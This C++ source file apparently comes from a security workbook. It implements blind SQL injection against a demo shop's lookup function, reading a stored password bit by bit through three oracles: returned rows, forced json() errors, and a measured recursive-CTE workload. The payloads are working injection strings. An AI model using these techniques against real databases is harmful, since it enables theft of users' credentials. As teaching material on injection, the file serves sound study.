#include "twin/oracles.hpp"

#include "workbook/statement_log.hpp"

namespace security::twin {

//! [read-secret]
Found read_secret(Oracle const& is_true)
{
    Found found;
    for (int place = 1; place <= 40; ++place) {
        int code = 0;
        for (int bit = 64; bit > 0; bit /= 2) {
            ++found.questions;
            // The code is at most 127, and 0 after the end of the text.
            code += is_true("(SELECT coalesce(unicode(substr(password, " +
                            std::to_string(place) +
                            ")), 0) FROM users ORDER BY id LIMIT 1) >= " +
                            std::to_string(code + bit))
                        ? bit
                        : 0;
        }
        if (code == 0) {
            break;
        }
        found.secret += static_cast<char>(code);
    }
    return found;
}
//! [read-secret]

//! [oracles]
bool by_answer(Catalogue& shop, std::string const& condition)
{
    return !shop.registered("?' OR " + condition + " --").empty();
}

bool by_error(Catalogue& shop, std::string const& condition)
{
    try {
        shop.registered("?' OR CASE WHEN " + condition + " THEN json('?') END --");
        return false;
    } catch (soci::soci_error const&) {
        return true;
    }
}

long long steps_of(soci::session& sql, Catalogue& shop, std::string const& condition)
{
    workbook::StatementLog const log(sql);
    shop.registered("?' OR CASE WHEN " + condition +
                    " THEN (WITH RECURSIVE n (i) AS (SELECT 1 UNION ALL"
                    " SELECT i + 1 FROM n WHERE i < 20000) SELECT count(*) FROM n)"
                    " END --");
    return log.work().steps;
}

bool by_work(soci::session& sql, Catalogue& shop, std::string const& condition)
{
    return steps_of(sql, shop, condition) > 10'000;
}
//! [oracles]

}  // namespace security::twin
